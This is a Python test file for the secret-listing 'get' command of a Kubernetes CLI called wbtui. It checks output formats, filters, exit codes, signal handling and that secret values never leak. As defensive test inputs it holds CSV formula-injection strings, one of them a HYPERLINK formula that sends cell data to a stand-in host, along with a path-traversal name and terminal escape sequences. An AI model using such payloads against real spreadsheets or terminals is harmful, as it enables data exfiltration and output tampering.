"""`wbtui get`: what it prints, where, and how it ends; in this process, and as a program with pipes and signals."""

import asyncio
import csv
import json
import os
import signal
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.cluster.conftest import PROJECT, kubeconfig_of, written
from tests.commands.conftest import Command
from tests.conftest import Kubectl
from tests.program import PROGRAM
from tests.proxy import Proxy, answer
from wbtui.demo.background import BackgroundCluster

ROOT = Path(__file__).parent.parent.parent
CANARY = "canary-4be1c7"
FORMATS = ("table", "wide", "name", "json", "yaml", "csv")


def items(text: str) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = json.loads(text)["items"]
    return found


def program(kubeconfig: Path | str, *arguments: str, **more: str) -> tuple[list[str], dict[str, str]]:
    """Return a command and its environment."""
    environment = {"PATH": os.environ["PATH"], "PYTHONPATH": str(ROOT), "HOME": str(Path(kubeconfig).parent)}
    command = [*PROGRAM, "get", "--kubeconfig", str(kubeconfig), *arguments]
    return command, environment | more


def test_a_table_is_for_people_and_for_awk(command: Command) -> None:
    done = command("get")
    assert (done.code, done.err) == (0, "")
    head, *rows = done.out.splitlines()
    assert head.split("   ")[0] == "NAME"
    assert "DISPLAY NAME" in head
    assert len(rows) == 27
    (row,) = [row for row in rows if row.startswith("hf-token-llama ")]
    assert "HuggingFace" in row.split()
    assert row.index("HuggingFace") == head.index("USE CASE")
    assert "TYPE" not in head
    assert "TYPE" in command("get", "-o", "wide").out.splitlines()[0]


def test_a_secret_with_thousands_of_keys_does_not_make_every_line_as_long(command: Command, kubectl: Kubectl) -> None:
    keys = [f"--from-literal=key-{number:04d}=x" for number in range(3000)]
    kubectl("create", "secret", "generic", "large", *keys)
    kubectl("label", "secret", "large", *(f"label-{number:03d}=x" for number in range(300)))
    done = command("get", "large", "hf-token-llama", "-o", "wide")
    assert all(len(line) < 500 for line in done.out.splitlines())
    assert "key-0000,key-0001" in done.out
    assert "…" in done.out
    assert "key-2999" in command("get", "large", "-o", "json").out


def test_titles_can_be_left_out(command: Command) -> None:
    assert command("get", "--no-headers").out.split() == command("get").out.partition("\n")[2].split()
    assert command("get", "-o", "csv", "--no-headers").out == command("get", "-o", "csv").out.partition("\n")[2]


def test_names_are_for_other_commands(command: Command) -> None:
    names = command("get", "-o", "name").out.split()
    assert names[0].startswith("secret/")
    again = command("get", *names, "-o", "name")
    assert (again.code, again.out.split()) == (0, names)


def test_json_yaml_and_csv_say_the_same(command: Command) -> None:
    as_json = items(command("get", "-A", "-o", "json").out)
    document = yaml.safe_load(command("get", "-A", "-o", "yaml").out)
    rows = list(csv.DictReader(command("get", "-A", "-o", "csv").out.splitlines()))
    assert document == {"apiVersion": "wbtui/v1", "kind": "SecretList", "items": as_json}
    assert [(row["project"], row["name"], row["useCase"]) for row in rows] == [
        (one["project"], one["name"], one["useCase"]) for one in as_json
    ]
    assert len({one["project"] for one in as_json}) > 1
    (token,) = [one for one in as_json if one["name"] == "hf-token-llama"]
    assert (token["useCase"], token["keys"], token["creator"]) == ("HuggingFace", ["token"], "amara.okafor@example.com")


@pytest.mark.parametrize("text", ["1e3", "1234e56", "0o17", "08", ".5e1", "-1E5", "y", "N", "yes", "1:30", "~", "1.0"])
def test_no_reader_of_yaml_takes_a_text_for_something_else(command: Command, kubectl: Kubectl, text: str) -> None:
    kubectl("annotate", "secret", "hf-token-llama", f"a/b={text}")
    document = command("get", "hf-token-llama", "-o", "yaml").out
    assert f"    a/b: '{text}'\n" in document
    assert yaml.safe_load(document)["items"][0]["annotations"]["a/b"] == text


def test_what_needs_no_quotes_in_yaml_has_none(command: Command, kubectl: Kubectl) -> None:
    kubectl("annotate", "secret", "hf-token-llama", "a/b=1.2.3", "a/c=8a")
    document = command("get", "hf-token-llama", "-o", "yaml").out
    assert "    a/b: 1.2.3\n    a/c: 8a\n" in document


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x?"&A1)', "+1+1", "-1+1", "@SUM(A1)", "＝1+1"])  # noqa: RUF001
def test_a_spreadsheet_computes_nothing(command: Command, kubectl: Kubectl, text: str) -> None:
    kubectl("annotate", "secret", "hf-token-llama", f"aiwb.apps.eai.amd.com/display-name={text}", "--overwrite")
    (row,) = csv.DictReader(command("get", "hf-token-llama", "-o", "csv").out.splitlines())
    assert row["displayName"] == f"'{text}"
    assert row["name"] == "hf-token-llama"


def test_nobody_can_apply_what_is_printed(command: Command, kubectl: Kubectl, tmp_path: Path) -> None:
    """It lacks the values: applied as a Secret, it would take them away."""
    (tmp_path / "printed.json").write_text(command("get", "hf-token-llama", "-o", "json").out)
    with pytest.raises(subprocess.CalledProcessError):
        kubectl("apply", "-f", str(tmp_path / "printed.json"))


@pytest.mark.parametrize(
    ("filter_", "some"),
    [
        ("use:hf -llama", "hf-legacy"),
        ("is:copied", "litellm-config"),
        ("is:unused", "license-server"),
        ("used:yes", "hf-token-llama"),
        ("by:jonas* or name:smtp*", "ghcr-pull"),
    ],
)
def test_the_filter_is_that_of_the_app(command: Command, filter_: str, some: str) -> None:
    done = command("get", "--filter", filter_, "-o", "name")
    names = done.out.split()
    everything = command("get", "-o", "name").out.split()
    assert done.code == 0
    assert 0 < len(names) < len(everything)
    assert f"secret/{some}" in names


def test_me_is_the_user_of_the_cluster(command: Command, kubectl: Kubectl) -> None:
    kubectl("create", "secret", "generic", "mine", "--from-literal=a=b")
    kubectl("annotate", "secret", "mine", "airm.silogen.ai/submitter=demo@example.com")
    assert command("get", "--filter", "by:me", "-o", "name").out == "secret/mine\n"


def test_what_is_missing_is_said_and_fails(command: Command) -> None:
    done = command("get", "hf-token-llama", "nope", "-o", "name")
    assert (done.code, done.out) == (1, "secret/hf-token-llama\n")
    assert done.err == f"There is no secret nope in project {PROJECT}.\n"


def test_nothing_found_is_said_beside_the_data(command: Command) -> None:
    done = command("get", "--filter", "name:nope")
    assert done == (0, "", f"No secrets in project {PROJECT} match the filter.\n")
    assert items(command("get", "--filter", "name:nope", "-o", "json").out) == []
    assert [command("get", "--fail", "--filter", word).code for word in ("name:nope", "use:hf")] == [0, 3]


def test_several_projects(command: Command) -> None:
    both = items(command("get", "-n", f"{PROJECT},research", "-o", "json").out)
    assert [one["project"] for one in both] == sorted(one["project"] for one in both)
    assert {one["project"] for one in both} == {PROJECT, "research"}
    assert command("get", "-n", f"{PROJECT},research").out.startswith("PROJECT ")


def test_empty_is_not_forbidden_and_not_missing(command: Command) -> None:
    missing = command("get", "-n", "nowhere")
    assert (missing.code, missing.out) == (1, "")
    assert missing.err == "There is no project nowhere. Choose a project with -n.\n"
    forbidden = command("get", "-A", "--context", "demo-restricted")
    assert (forbidden.code, forbidden.out) == (1, "")
    assert "forbidden" in forbidden.err
    assert "{" not in forbidden.err


def test_a_login_that_is_needed_has_a_code_of_its_own(
    command: Command, cluster: BackgroundCluster, tmp_path: Path
) -> None:
    plugin = {"exec": {"apiVersion": "client.authentication.k8s.io/v1", "command": "/nowhere/plugin"}}
    for user in ({"token": CANARY}, plugin):
        done = command("get", "--kubeconfig", written(tmp_path, kubeconfig_of(cluster.url, user)))
        assert (done.code, done.out) == (4, "")
        assert CANARY not in done.err
        assert "retry" not in done.err


@pytest.mark.parametrize(
    ("arguments", "problem"),
    [
        (["--filter", "is:nope"], "--filter, at 4: a secret is terminating"),
        (["--filter", '"'], "--filter, at 1: this quotation mark is not closed"),
        (["-o", "xml"], "-o/--output: invalid choice: 'xml'"),
        (["Nope"], 'no secret can be called "Nope"'),
        (["a,type=b"], 'no secret can be called "a,type=b"'),
        (["secret/"], 'no secret can be called ""'),
        (["-x"], 'unknown flag "-x"'),
        (["../../x"], 'no secret can be called "../../x"'),
        (["-w", "--filter", "is:unused"], "--watch does not follow who uses secrets"),
        (["-w", "-o", "yaml"], "--watch prints no yaml"),
        (["-w", "--fail"], "--fail does not go with --watch"),
        (["--", "-w"], 'no secret can be called "-w"'),
        (["--", "--help"], 'no secret can be called "--help"'),
        (["-pcanary-4be1c7"], 'unknown flag "-p". See'),
        (["--wach"], 'unknown flag "--wach" (did you mean "--watch"?)'),
    ],
)
def test_wrong_use_is_a_sentence(command: Command, arguments: list[str], problem: str) -> None:
    done = command("get", *arguments)
    assert (done.code, done.out) == (2, "")
    assert done.err.startswith(f"wbtui get: {problem}")


def test_flags_may_stand_between_names(command: Command) -> None:
    done = command("get", "hf-token-llama", "-o", "name", "ghcr-pull")
    assert done == (0, "secret/ghcr-pull\nsecret/hf-token-llama\n", "")


def test_no_value_is_printed_or_logged(command: Command, kubectl: Kubectl, tmp_path: Path) -> None:
    manifest = {
        "apiVersion": "v1",
        "kind": "Secret",
        "metadata": {"name": "held", "annotations": {"copy": json.dumps({"data": {"key": CANARY}})}},
        "stringData": {"key": CANARY},
    }
    (tmp_path / "held.json").write_text(json.dumps(manifest))
    kubectl("apply", "-f", str(tmp_path / "held.json"))
    log = tmp_path / "log"
    for name in FORMATS:
        done = command("get", "held", "-o", name, "-v", "--log-file", str(log))
        assert (done.code, done.err) == (0, "")
        assert "held" in done.out
        assert CANARY not in done.out
    assert "/secrets" in log.read_text()
    assert CANARY not in log.read_text()


async def test_whole_secrets_are_refused(proxy: Proxy, tmp_path: Path) -> None:
    """Something on the way that ignores what was asked for must not make values visible."""
    whole = {"kind": "SecretList", "items": [{"metadata": {"name": "a"}, "data": {"key": CANARY}}]}
    proxy.next(answer(200, json.dumps(whole).encode()))
    command, environment = program(written(tmp_path, kubeconfig_of(proxy.url)), "-o", "json")
    process = await asyncio.create_subprocess_exec(
        *command, env=environment, stdout=subprocess.PIPE, stderr=subprocess.PIPE
    )
    out, err = await process.communicate()
    assert (process.returncode, out) == (1, b"")
    assert b"dropped unread" in err
    assert CANARY.encode() not in err


def test_text_of_others_does_nothing_to_a_terminal(command: Command, kubectl: Kubectl) -> None:
    kubectl("create", "secret", "generic", "odd", "--from-literal=a=b")
    kubectl("annotate", "secret", "odd", "airm.silogen.ai/submitter=\x1b[2Jé\u202e\x9b")
    for name in FORMATS:
        done = command("get", "odd", "-o", name)
        assert not set(done.out) & {"\x1b", "\u202e", "\x9b"}
    assert items(command("get", "odd", "-o", "json").out)[0]["creator"] == "\x1b[2Jé\u202e\x9b"


@pytest.mark.parametrize(
    ("redirected", "code", "err"),
    [
        ("</dev/null | head -1 >&2", 0, "NAME"),
        (">/dev/full", 1, "The output cannot be written: No space left on device."),
        (">&-", 0, ""),
        ("<&- 2>&- >/dev/null", 0, ""),
    ],
)
def test_streams_may_lead_anywhere(kubeconfig: Path, redirected: str, code: int, err: str) -> None:
    command, environment = program(kubeconfig)
    script = f"set -o pipefail; {' '.join(command)} {redirected}"
    done = subprocess.run(
        ["bash", "-c", script], env=environment, capture_output=True, text=True, check=False, timeout=60
    )
    assert (done.returncode, done.stdout) == (code, "")
    assert done.stderr.startswith(err)
    assert done.stderr.count("\n") == bool(err)


def test_a_reader_that_has_enough_is_no_error(kubeconfig: Path) -> None:
    command, environment = program(kubeconfig, "-A", "-o", "json")
    ends = os.pipe()
    os.close(ends[0])
    done = subprocess.run(command, env=environment, stdout=ends[1], stderr=subprocess.PIPE, check=False, timeout=60)
    os.close(ends[1])
    assert (done.returncode, done.stderr) == (0, b"")


def test_changes_are_printed_until_it_is_interrupted(kubeconfig: Path, kubectl: Kubectl) -> None:
    command, environment = program(kubeconfig, "-w", "-o", "json", "--filter", "label:team=a")
    with subprocess.Popen(
        command, env=environment, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    ) as process:
        assert process.stdout
        kubectl("label", "secret", "hf-token-llama", "team=a")
        seen = [json.loads(process.stdout.readline())]
        kubectl("label", "secret", "hf-token-llama", "more=b")
        seen.append(json.loads(process.stdout.readline()))
        kubectl("label", "secret", "hf-token-llama", "team-")
        seen.append(json.loads(process.stdout.readline()))
        process.send_signal(signal.SIGINT)
        _, errors = process.communicate(timeout=60)
    assert [(one["type"], one["object"]["name"]) for one in seen] == [
        ("ADDED", "hf-token-llama"),
        ("MODIFIED", "hf-token-llama"),
        ("DELETED", "hf-token-llama"),
    ]
    assert (process.returncode, errors) == (130, "")


@pytest.mark.parametrize("ignored", [signal.SIGHUP, signal.SIGINT])
def test_a_signal_that_is_ignored_from_the_start_ends_nothing(kubeconfig: Path, ignored: signal.Signals) -> None:
    command, environment = program(kubeconfig, "-w", "-o", "name", "--filter", "name:hf-token-llama")
    before = signal.signal(ignored, signal.SIG_IGN)  # as nohup and the background of a script have it
    try:
        process = subprocess.Popen(command, env=environment, stdout=subprocess.PIPE, text=True)
    finally:
        signal.signal(ignored, before)
    with process:
        assert process.stdout
        assert process.stdout.readline() == "secret/hf-token-llama\n"
        process.send_signal(ignored)
        process.send_signal(signal.SIGTERM)
        process.communicate(timeout=60)
    assert process.returncode == 128 + signal.SIGTERM


def test_a_watch_of_a_missing_project_ends(command: Command) -> None:
    assert command("get", "-w", "-n", "nowhere").code == 1
